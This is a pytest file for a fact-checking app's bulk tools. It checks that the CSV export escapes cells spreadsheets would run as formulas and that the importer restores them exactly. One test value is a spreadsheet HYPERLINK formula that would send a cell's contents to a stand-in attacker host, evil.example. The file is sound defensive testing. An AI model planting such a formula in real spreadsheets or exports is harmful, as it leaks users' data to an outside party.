"""CSV cells a spreadsheet would run as formulas are written as text, and read back as they were.

The rule (``config.untrusted.csv_cell``, OWASP's): a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return, after any single quotes, gets one single quote in front. The
importer takes off that one quote, and only where the export put it (``csv_cell_read``), so a
value that began with a quote of its own comes back with it.
"""

from __future__ import annotations

import csv
import io

import pytest

from claims.bulk import DEFAULT, claims_export
from claims.bulk.mapping import read_row
from claims.bulk.rows import RowReader
from claims.models import Claim, Source, Speaker, Topic
from config.untrusted import csv_cell, csv_cell_read
from tests import factories
from tests.security.conftest import import_rows

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
FORMULAS = [HYPERLINK, "@SUM(1)", "-5%", "+1", "\t=1+1", "\r=1+1", "=1+1"]
# Values that must pass through untouched, or come back exactly after the extra quote.
PLAIN = ["", "Aid doubled.", "a=b", "5%", "'quoted", "'", "''", "it's -5%", " =1"]
QUOTED_FORMULAS = ["'=1+1", "''@SUM(1)", "'-5%"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_starting_like_a_formula_gets_one_quote_in_front(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN)
def test_a_cell_that_cannot_start_a_formula_is_written_as_it_is(value: str) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", QUOTED_FORMULAS)
def test_a_formula_behind_quotes_of_its_own_gets_one_more(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", FORMULAS + PLAIN + QUOTED_FORMULAS)
def test_every_value_reads_back_as_it_was_written(value: str) -> None:
    assert csv_cell_read(csv_cell(value)) == value


@pytest.fixture
def hostile_claim(db, editor) -> Claim:
    """A claim whose statement, topic, speaker and speaker role would each run in a
    spreadsheet opened from a naive export."""
    claim = factories.ClaimFactory(statement=HYPERLINK, submitted_by=editor)
    claim.topics.add(factories.TopicFactory(name="-5%", slug="minus-5"))
    factories.AppearanceFactory(
        claim=claim, speaker=factories.SpeakerFactory(name="@SUM(1)", role="+1")
    )
    return claim


def exported_rows() -> list[dict[str, str]]:
    text = "".join(claims_export(file_format="csv"))
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_export_writes_no_cell_a_spreadsheet_would_run(hostile_claim: Claim) -> None:
    [row] = exported_rows()
    assert row["statement"] == "'" + HYPERLINK
    assert row["topics"] == "'-5%"
    assert row["speaker"] == "'@SUM(1)"
    assert row["speaker_role"] == "'+1"
    starts = tuple("=+-@\t\r")
    assert [name for name, cell in row.items() if cell.startswith(starts)] == []


def test_the_importer_reads_the_escaped_cells_back_unchanged(hostile_claim: Claim) -> None:
    text = "".join(claims_export(file_format="csv"))
    reader = RowReader(io.BytesIO(text.encode()), file_format="csv")
    [row] = list(reader)
    record = read_row(DEFAULT, row.values)
    assert record.statement == HYPERLINK
    assert record.topics == ["-5%"]
    assert (record.places[0].speaker.name, record.places[0].speaker.role) == ("@SUM(1)", "+1")


def test_an_exported_claim_imported_into_an_empty_desk_is_the_same_claim(
    hostile_claim: Claim, editor
) -> None:
    text = "".join(claims_export(file_format="csv"))
    Claim.objects.all().delete()
    Source.objects.all().delete()
    Speaker.objects.all().delete()
    Topic.objects.all().delete()

    rows = import_rows(editor, text.encode(), "csv")

    assert [line.status for line in rows] == ["created"]
    claim = Claim.objects.get()
    assert claim.statement == HYPERLINK
    assert list(claim.topics.values_list("name", flat=True)) == ["-5%"]
    speaker = claim.appearances.get().speaker
    assert (speaker.name, speaker.role) == ("@SUM(1)", "+1")
    # ...and it goes out escaped again, byte for byte the same cells.
    assert [row["statement"] for row in exported_rows()] == ["'" + HYPERLINK]
